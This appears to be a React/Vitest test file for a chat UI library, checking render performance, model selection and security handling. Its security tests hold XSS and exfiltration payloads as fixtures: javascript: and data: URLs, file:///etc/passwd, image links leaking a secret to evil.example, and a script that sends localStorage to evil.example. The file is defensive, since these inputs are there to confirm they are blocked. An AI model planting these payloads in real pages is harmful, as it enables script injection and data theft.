import { memo, Profiler, StrictMode, type ReactNode } from 'react';
import { afterEach, describe, expect, it } from 'vitest';
import { act, cleanup, fireEvent, render, screen } from '@testing-library/react';
import { renderToString } from 'react-dom/server';
import { Artifact, ChatProvider, Composer, MarkdownText, Message, ModelPicker, ToolCall, type ChatProviderProps } from '@oddkin/ai';
import { createObserverStore, type Action, type DocumentEntry } from '@oddkin/ai/store';
import { createFrames } from '@oddkin/ai/testing';

afterEach(cleanup);

const entry = (noun: string, value: unknown) => ({ schema: `oddkin.ai.${noun}`, version: 1, value }) as DocumentEntry;
const storeOf = (...documents: readonly DocumentEntry[]) => {
  const store = createObserverStore();
  store.put(documents);
  return store;
};
const around = (part: ReactNode, props: Pick<ChatProviderProps, 'store'> & Partial<ChatProviderProps>) => (
  <StrictMode>
    <ChatProvider onAction={() => undefined} {...props}>
      {part}
    </ChatProvider>
  </StrictMode>
);

it('PERF-02: a message that grows renders no other, and leaves what a person types alone', () => {
  const frames = createFrames();
  const store = createObserverStore({ limits: { messages: 3_000 } });
  const ids = Array.from({ length: 2_000 }, (_, index) => `m${index}`);
  const text = `# h\n\n${'word '.repeat(20)}\n\n\`\`\`js\nx\n\`\`\``;
  store.ingest([
    frames.sessionInit(),
    ...ids.map((id) =>
      frames.agentMessage({
        documents: [
          entry('message', {
            id,
            role: 'assistant',
            parts: [{ type: 'text', id: 'p', text: id === 'm1999' ? '' : text, state: 'streaming' }],
          }),
        ],
      }),
    ),
  ]);
  const renders = new Map<string, number>();
  const shown = ids.slice(-60);
  render(
    <ChatProvider store={store} sessionId={frames.sessionId} onAction={() => undefined}>
      {shown.map((id) => (
        <Profiler key={id} id={id} onRender={() => void renders.set(id, (renders.get(id) ?? 0) + 1)}>
          <Still id={id} />
        </Profiler>
      ))}
      <Composer />
    </ChatProvider>,
  );
  renders.clear();
  const before = store.getState().messages.records;
  const input = screen.getByRole('textbox');
  for (let count = 0; count < 1_000; count += 1) {
    const delta = { messageId: 'm1999', partId: 'p', partType: 'text', offset: count * 5, text: 'more ' };
    act(() => void store.ingest([frames.agentMessage({ delta })]));
    if (count % 25 === 0) act(() => void fireEvent.change(input, { target: { value: 'x'.repeat(count / 25) } }));
  }
  expect([...renders.keys()]).toEqual(['m1999']);
  const after = store.getState().messages.records;
  const key = (id: string) => `${frames.sessionId}/${id}`;
  expect(ids.filter((id) => after.get(key(id)) !== before.get(key(id)))).toEqual(['m1999']);
  expect(input).toHaveProperty('value', 'x'.repeat(39));
});

const Still = memo(function Still({ id }: { readonly id: string }) {
  return <Message messageId={id} />;
});

describe('PERF-06: a large output', () => {
  const outputs: readonly [string, Record<string, unknown>][] = [
    ['rows', { rows: Array.from({ length: 60_000 }, (_, id) => ({ id, body: 'lorem '.repeat(14) })) }],
    ['letters', { text: 'A'.repeat(5e6) }],
    ['bytes', { text: `\u0000\u0001PNG${'\ufffd'.repeat(1e5)}` }],
  ];
  it.each(outputs)('of many %s is held once, not shown before it is opened, and then in part', (_, output) => {
    const frames = createFrames();
    const store = storeOf(entry('tool-call', { toolCallId: 'c1', tool: 'search', status: 'succeeded', input: { q: 'x' }, output }));
    const { container } = render(around(<ToolCall toolCallId="c1" />, { store }));
    expect(container.textContent.length).toBeLessThan(500);
    expect(container.querySelectorAll('*').length).toBeLessThan(60);
    fireEvent.click(screen.getByRole('button'));
    expect(container.querySelectorAll('*').length).toBeLessThan(500);
    expect(container.textContent.length).toBeLessThan(32_000);
    expect(container.querySelector('.oddkin-markdown, pre code span')).toBeNull();
    const [kept] = [...store.getState().toolCalls.records.values()].map(({ value }) => value.output);
    expect(kept === output || JSON.stringify(kept) === JSON.stringify(output)).toBe(true);
    // What is longer than a frame may be does not come over the wire at all, and that is told.
    const text = JSON.stringify(frames.toolResult({ call_id: 'c2', output }));
    store.ingest([frames.sessionInit()]);
    const [report] = store.ingest([text]);
    expect(report?.problems.map(({ code }) => code)).toEqual([text.length > 1_048_576 ? 'frame_too_large' : 'result_before_call']);
  });
});

describe('PRO-20: the model that is shown', () => {
  it('is the one that was sent, whatever becomes of the offer', async () => {
    const sent: Action[] = [];
    const model = (id: string, rest: Record<string, unknown> = {}) => entry('model-option', { id, label: id, available: true, ...rest });
    const gone = (id: string) => ({ schema: 'oddkin.ai.model-option', version: 1, value: null, id }) as DocumentEntry;
    const store = storeOf(model('m-a'), model('m-b'));
    render(around(<ModelPicker />, { store, onAction: (action) => void sent.push(action) }));
    const trigger = screen.getByRole('button', { name: /^Model/ });
    fireEvent.click(trigger);
    await act(async () => void fireEvent.click(screen.getByRole('option', { name: /^m-a/ })));
    expect(sent).toMatchObject([{ type: 'model.select', id: 'm-a' }]);
    const expectShown = (words: RegExp) => expect(trigger.textContent).toMatch(words);
    act(() => void store.put([gone('m-a')]));
    expectShown(/m-a.*no longer offered/);
    act(() => void store.put([model('m-a', { available: false, reason: 'Overloaded.' })]));
    expectShown(/m-a.*not available/);
    act(() => void store.put([model('m-a')]));
    expectShown(/m-a$/);
    act(() => void store.put([gone('m-a'), gone('m-b')]));
    expectShown(/m-a.*no longer offered/);
    expect(store.put([model('__proto__'), model('')]).map(({ accepted }) => accepted)).toEqual([true, false]);
    act(() => void store.put([model('m-b'), model('m-b')]));
    expect(sent).toHaveLength(1);
    fireEvent.click(trigger);
    expect(screen.getAllByRole('option').filter(({ textContent }) => textContent?.startsWith('m-b'))).toHaveLength(1);
  });
});

describe('SEC-01: an address', () => {
  const never = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\nscript:alert(1)',
    'java\tscript:alert(1)',
    '\u0001javascript:alert(1)',
    ' javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>1</script>',
    'blob:https://example.test/x',
    'file:///etc/passwd',
    'filesystem:x',
    '//evil.example/x',
    '\\\\evil.example\\x',
    'https:evil.example',
    'https://user:pw@evil.example',
  ];
  const inMarkdownNever = [...never, 'java&#115;cript:alert(1)', 'java&Tab;script:alert(1)'];
  const always = ['https://example.test/a?b=1&c=2#d', 'mailto:a@example.test', '/local', '#frag', 'docs/readme.md'];
  const part = (value: Record<string, unknown>) =>
    around(<Message messageId="m" />, { store: storeOf(entry('message', { id: 'm', role: 'assistant', parts: [{ id: 'p', ...value }] })) });
  const artifact = (url: string) =>
    around(<Artifact artifactId="a" />, {
      store: storeOf(
        entry('artifact', { artifactId: 'a', title: 't', kind: 'data', mediaType: 'x/y', revisions: [{ revisionId: 'r', url }] }),
      ),
    });
  const ownMarkdown = (text: string) => around(<MarkdownText text={text} />, { store: storeOf() });
  const fields: readonly [string, (url: string) => ReactNode][] = [
    ['source', (url) => part({ type: 'source', sourceId: 's', title: 'words', url })],
    ['file', (url) => part({ type: 'file', name: 'words', mediaType: 'x/y', url })],
    ['artifact', artifact],
  ];
  const texts: readonly [string, (url: string) => ReactNode][] = [
    ['Markdown link', (url) => ownMarkdown(`[words](<${url}>)`)],
    ['Markdown definition', (url) => ownMarkdown(`[words][r]\n\n[r]: <${url}>`)],
    ['Markdown autolink', (url) => ownMarkdown(`words <${url}>`)],
  ];
  const hrefs = (page: ReactNode) =>
    [...render(page).container.querySelectorAll('[href], [src]')].map((each) => each.getAttribute('href') ?? each.getAttribute('src'));

  it.each(fields)('of a %s leads nowhere unless it may', (_, show) => {
    for (const url of never) {
      expect(hrefs(show(url)), url).toEqual([]);
      cleanup();
    }
    for (const url of always) {
      const page = render(show(url));
      const link = page.container.querySelector('a')!;
      expect([link.getAttribute('href'), link.rel]).toEqual([url, 'noopener noreferrer']);
      cleanup();
    }
  });

  it.each(texts)('of a %s leads nowhere unless it may', (name, show) => {
    for (const url of inMarkdownNever) {
      const { container } = render(show(url));
      for (const link of container.querySelectorAll('a[href]'))
        expect(link.getAttribute('href'), `${name} of ${url}`).toMatch(/^(?:https?:\/\/evil\.example|mailto:pw@evil\.example|%5C)/);
      if (name !== 'Markdown autolink' && !url.startsWith('\\')) expect(container.querySelector('a'), url).toBeNull();
      expect(container.textContent).toContain('words');
      cleanup();
    }
    for (const url of name === 'Markdown autolink' ? always.slice(0, 2) : always) {
      expect(hrefs(show(url))).toEqual([url]);
      cleanup();
    }
  });
});

it('SEC-03: a picture, a source and a file ask nobody but whom the host trusts, here and on a server', () => {
  const text =
    '![x](https://evil.example/p.png?leak=SECRET)\n\n![y][r]\n\n[r]: https://evil.example/q.png?leak=SECRET\n\n' +
    '<img src="https://evil.example/r.png?leak=SECRET">\n\n[![z](//evil.example/z.png)](https://ok.example)\n\n' +
    '![ok](https://cdn.example.test/logo.png)\n\n![s](data:image/svg+xml,<svg/onload=alert(1)>)';
  const url = 'https://evil.example/?leak=SECRET';
  const parts = [
    { type: 'text', id: 't', text },
    { type: 'source', id: 's', sourceId: 'a', title: 't', url, icon: 'https://evil.example/fav.ico?leak=SECRET' },
    { type: 'file', id: 'f', name: 'a.png', mediaType: 'image/png', url: 'https://evil.example/f.png?leak=SECRET' },
  ];
  const store = storeOf(entry('message', { id: 'm1', role: 'assistant', parts }));
  const page = around(<Message messageId="m1" />, { store, urlPolicy: { mediaOrigins: ['https://cdn.example.test'] } });
  const loads = (root: ParentNode) =>
    [...root.querySelectorAll('[src], [srcset], [poster], [data], [background], link')].map(
      (each) => each.getAttribute('src') ?? each.outerHTML,
    );
  expect(loads(render(page).container)).toEqual(['https://cdn.example.test/logo.png']);
  const onServer = document.createElement('template');
  onServer.innerHTML = renderToString(page);
  const asked = loads(onServer.content).filter((each) => !each.includes('cdn.example.test'));
  expect(asked).toEqual([]);
});

it('SEC-04: an artifact is shown as its source, a title as text, and a page opens without rights', () => {
  const artifacts = [
    ['a1', 'Page', 'text/html', "<script>parent.document.title='pwned';fetch('https://evil.example/'+localStorage.t)</script>"],
    ['a2', 'Icon', 'image/svg+xml', '<svg xmlns=\'http://www.w3.org/2000/svg\' onload="alert(1)"><a href="javascript:alert(1)"/></svg>'],
    ['a3', '</title><script>alert(1)</script>', 'application/x-unknown', '\u0000'],
  ] as const;
  const store = storeOf(
    ...artifacts.map(([artifactId, title, mediaType, content]) =>
      entry('artifact', { artifactId, title, kind: 'code', mediaType, revisions: [{ revisionId: 'r', content }] }),
    ),
  );
  const page = around(
    artifacts.map(([id]) => <Artifact key={id} artifactId={id} />),
    { store },
  );
  const { container } = render(page);
  expect(container.querySelector('script, iframe, object, embed, img, [onload], a[href^="javascript"]')).toBeNull();
  expect(screen.getByText('</title><script>alert(1)</script>')).toBeTruthy();
  expect(screen.getAllByRole('button', { name: 'Download' })).toHaveLength(3);
  for (const open of screen.getAllByRole('button', { name: /^Open/ })) fireEvent.click(open);
  for (const frame of container.querySelectorAll('iframe')) {
    expect(frame.getAttribute('sandbox')).toBe('');
    expect(frame.getAttribute('srcdoc')).toMatch(/default-src 'none'/);
  }
  expect(container.querySelectorAll('iframe')).toHaveLength(2);
  expect(document.title).toBe('');
});

it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])('STO-04: no renderer is found by the name %s', (name) => {
  const store = storeOf(
    entry('tool-call', { toolCallId: 'c', tool: name, status: 'succeeded', input: {}, output: { seen: 'a door' } }),
    entry('message', { id: 'm', role: 'assistant', parts: [{ type: 'data', id: 'd', name, data: { n: 1 } }] }),
  );
  const { container } = render(
    around(
      <>
        <ToolCall toolCallId="c" defaultOpen />
        <Message messageId="m" />
      </>,
      { store, renderers: { tool: {}, data: {}, event: {}, world: {} } },
    ),
  );
  expect(container.textContent).toContain('a door');
  expect(container.textContent).toContain(`Data: ${name}`);
});

it('STR-16: what is finished keeps its elements, its selection and its focus while more is written', () => {
  let text = '```js\nlet a=1\n```\n\n| a |\n|---|\n| 1 |\n\nTail ';
  const { container, rerender } = render(<MarkdownText text={text} isStreaming />);
  const find = () => ['pre', 'table', 'button'].map((each) => container.querySelector<HTMLElement>(each)!);
  const before = find();
  before[2]!.focus();
  getSelection()?.selectAllChildren(before[0]!);
  const touched: Node[] = [];
  const watch = new MutationObserver((records) => void touched.push(...records.map(({ target }) => target)));
  for (const element of before) watch.observe(element, { subtree: true, childList: true, characterData: true, attributes: true });
  for (let delta = 0; delta < 200; delta += 1) rerender(<MarkdownText text={(text += delta % 9 === 8 ? 'end. ' : 'word ')} isStreaming />);
  rerender(<MarkdownText text={(text += '\n\n```py\nprint(')} isStreaming />);
  rerender(<MarkdownText text={(text += '1)\n```')} isStreaming />);
  touched.push(...watch.takeRecords().map(({ target }) => target));
  watch.disconnect();
  find().forEach((element, index) => expect(element).toBe(before[index]));
  expect(touched).toEqual([]);
  expect(document.activeElement).toBe(before[2]);
  expect(getSelection()?.toString()).toBe('let a=1');
});
